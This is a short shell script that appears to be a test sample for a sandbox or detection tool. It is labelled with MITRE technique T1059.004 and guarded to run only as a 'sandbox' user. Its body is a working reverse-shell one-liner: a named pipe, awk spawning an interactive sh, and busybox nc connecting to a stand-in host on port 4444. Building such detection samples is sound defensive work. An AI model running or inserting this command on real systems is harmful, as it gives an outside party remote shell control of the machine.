#!/bin/sh
# technique: T1059.004
# needs: busybox awk
# net: sink
# options: --timeout 12s
[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }

rm -f f; mkfifo f; cat f | awk 'BEGIN { while (("sh -i" | getline line) > 0) print line }' 2>&1 | busybox nc 203.0.113.7 4444 > f
